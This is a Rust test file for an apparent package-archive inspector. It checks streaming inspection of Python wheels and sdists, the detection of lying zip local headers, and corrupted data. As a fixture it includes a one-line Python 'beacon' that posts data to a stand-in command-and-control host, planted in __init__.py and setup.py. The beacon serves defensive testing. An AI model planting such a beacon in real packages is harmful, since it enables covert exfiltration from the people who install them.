//! Archives that are inspected while they arrive: what is seen is what is seen of a file that is there, and
//! what local headers say of large members is believed only where the directory says the same.

use std::io::{self, Cursor, Read, Seek, SeekFrom};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use portcullis_core::digest::Sha256;
use portcullis_fixtures::{incompressible, sdist, wheel};
use portcullis_inspect::archive::survey::{Flaw, survey};
use portcullis_inspect::archive::{Arrival, Arrived, Arriving, Limits};
use portcullis_inspect::inspection::{Budget, inspect_archive};
use proptest::prelude::*;

use crate::bytes::{Member, WHEEL, filename, member, wheel as bare_wheel};

/// More than a member has to have to be read ahead.
const LARGE: usize = 400_000;

/// Arrives in pieces of one size.
struct Pieces {
    piece: u64,
    arrived: u64,
    total: u64,
}

impl Arrival for Pieces {
    fn wait(&mut self) -> io::Result<Arrived> {
        self.arrived += self.piece;
        Ok(match self.arrived < self.total {
            true => Arrived::SoFar(self.arrived),
            false => Arrived::Whole(self.total),
        })
    }
}

fn arriving(bytes: &[u8], piece: u64) -> Arriving<Cursor<&[u8]>, Pieces> {
    let total = bytes.len() as u64;
    let pieces = Pieces {
        piece,
        arrived: 0,
        total,
    };
    Arriving::new(Cursor::new(bytes), pieces, total)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]

    #[test]
    fn what_is_seen_does_not_depend_on_how_it_arrives(
        payload in 0usize..900_000,
        piece in 1_000u64..500_000,
        behind in 0usize..20,
    ) {
        let beacon = "import urllib.request\nurllib.request.urlopen('http://c2.invalid/', data=b'x')\n";
        let mut wheel = wheel("demo", "1.0").payload(payload).file("demo/__init__.py", beacon);
        let mut sdist = sdist("demo", "1.0").file("data.bin", incompressible(payload)).file("setup.py", beacon);
        for index in 0..behind {
            wheel = wheel.file(&format!("demo/m{index}.py"), "x = 1\n".repeat(index * 100));
            sdist = sdist.file(&format!("demo/m{index}.py"), "x = 1\n".repeat(index * 100));
        }
        for (name, bytes) in [(wheel.filename(), wheel.build()), (sdist.filename(), sdist.build())] {
            let name = filename(&name);
            let there = inspect_archive(Cursor::new(&bytes), &name, &Budget::default()).unwrap();
            let along = inspect_archive(arriving(&bytes, piece), &name, &Budget::default()).unwrap();
            prop_assert_eq!(there.inspected.sha256, Sha256::of(&bytes));
            prop_assert!(!there.inspected.observations.is_empty());
            prop_assert_eq!(&along.inspected, &there.inspected);
            prop_assert_eq!(&along.contents, &there.contents);
        }
    }
}

fn large(name: &str) -> Member {
    member(name, incompressible(LARGE))
}

#[test]
fn what_a_local_header_says_otherwise_is_told_and_not_believed() {
    let truth = large("foo/data.bin");
    let half = (LARGE / 2) as u32;
    let twice = (LARGE * 2) as u32;
    let mut other_name = truth.clone();
    other_name.local_name = b"foo/data.txt".to_vec();
    let mut smaller = truth.clone();
    smaller.local_size = half;
    let mut larger = truth.clone();
    larger.local_size = twice;
    let mut checksum = truth.clone();
    checksum.local_crc32 ^= 1;
    let mut flags = truth.clone();
    flags.local_flags ^= 1;
    let lies = [
        ("another name", other_name, Flaw::LocalName),
        ("a smaller size", smaller, Flaw::LocalSize),
        ("a larger size", larger, Flaw::LocalSize),
        ("another checksum", checksum, Flaw::LocalChecksum),
        ("another flag", flags, Flaw::LocalFlags),
    ];
    for (what, lie, flaw) in lies {
        let bytes = bare_wheel().with(|zip| zip.members.insert(0, lie)).build();
        let mut nobody = |_: portcullis_inspect::archive::survey::Text<'_>| {};
        let seen = survey(
            Cursor::new(&bytes),
            &filename(WHEEL),
            &Limits::default(),
            &mut nobody,
        );
        let seen = seen.unwrap();
        let flaws: Vec<Flaw> = seen.violations.iter().map(|seen| seen.flaw).collect();
        assert!(flaws.contains(&flaw), "{what}: {flaws:?}");
        let data = seen
            .members
            .iter()
            .find(|member| &*member.name == "foo/data.bin");
        let data = data.unwrap_or_else(|| panic!("{what}: no member"));
        assert_eq!(data.size, LARGE as u64, "{what}");
        assert_eq!(data.sha256, Some(Sha256::of(&truth.data)), "{what}");
    }
}

#[test]
fn broken_data_of_a_large_member_is_found_as_in_a_small_one() {
    let mut broken = large("foo/data.bin");
    let middle = broken.stored.len() / 2;
    broken.stored[middle] ^= 0xff;
    let mut stored = large("foo/more.bin").kept_stored();
    stored.stored[17] ^= 1;
    for (what, member) in [("deflated", broken), ("stored", stored)] {
        let bytes = bare_wheel()
            .with(|zip| zip.members.insert(0, member))
            .build();
        let seen = inspect_archive(
            arriving(&bytes, 10_000),
            &filename(WHEEL),
            &Budget::default(),
        );
        let seen = seen.unwrap().inspected;
        let broken =
            |seen: &portcullis_core::inspection::Observation| seen.message.contains("checksum");
        assert!(
            seen.observations.iter().any(broken),
            "{what}: {:?}",
            seen.observations
        );
    }
}

#[test]
fn a_file_that_never_arrives_whole_is_no_finding() {
    struct Broken;
    impl Arrival for Broken {
        fn wait(&mut self) -> io::Result<Arrived> {
            Err(io::Error::from(io::ErrorKind::BrokenPipe))
        }
    }
    let bytes = wheel("demo", "1.0").build();
    let never = Arriving::new(Cursor::new(&bytes), Broken, bytes.len() as u64);
    let name = filename("demo-1.0-py3-none-any.whl");
    let seen = inspect_archive(never, &name, &Budget::default());
    assert_eq!(seen.unwrap_err().kind(), io::ErrorKind::BrokenPipe);
}

/// Counts what is read.
struct Counted<'a>(Cursor<&'a [u8]>, Arc<AtomicU64>);

impl Read for Counted<'_> {
    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        let count = self.0.read(buffer)?;
        self.1.fetch_add(count as u64, Ordering::Relaxed);
        Ok(count)
    }
}

impl Seek for Counted<'_> {
    fn seek(&mut self, to: SeekFrom) -> io::Result<u64> {
        self.0.seek(to)
    }
}

/// Lets the first nine tenths arrive, and notes how much had been read when the rest was waited for.
struct NearlyThere {
    read: Arc<AtomicU64>,
    before_the_end: Arc<AtomicU64>,
    told: u64,
    total: u64,
}

impl Arrival for NearlyThere {
    fn wait(&mut self) -> io::Result<Arrived> {
        if self.told == 0 {
            self.told = self.total / 10 * 9;
            return Ok(Arrived::SoFar(self.told));
        }
        self.before_the_end
            .store(self.read.load(Ordering::Relaxed), Ordering::Relaxed);
        Ok(Arrived::Whole(self.total))
    }
}

#[test]
fn a_large_member_is_not_read_again_when_the_last_byte_is_there() {
    let wheel = wheel("demo", "1.0").payload(4 << 20);
    let sdist = sdist("demo", "1.0").file("data.bin", incompressible(4 << 20));
    for (name, bytes) in [
        (wheel.filename(), wheel.build()),
        (sdist.filename(), sdist.build()),
    ] {
        let total = bytes.len() as u64;
        let (read, before_the_end) = (Arc::default(), Arc::default());
        let arrival = NearlyThere {
            read: Arc::clone(&read),
            before_the_end: Arc::clone(&before_the_end),
            told: 0,
            total,
        };
        let counted = Counted(Cursor::new(&bytes), Arc::clone(&read));
        let arriving = Arriving::new(counted, arrival, total);
        inspect_archive(arriving, &filename(&name), &Budget::default()).unwrap();
        let before = before_the_end.load(Ordering::Relaxed);
        let after = read.load(Ordering::Relaxed) - before;
        assert_eq!(before, total / 10 * 9, "{name}");
        // The last tenth, what lies around members, and what is small.
        assert!(after < total / 10 + (1 << 20), "{name}: {after} of {total}");
    }
}
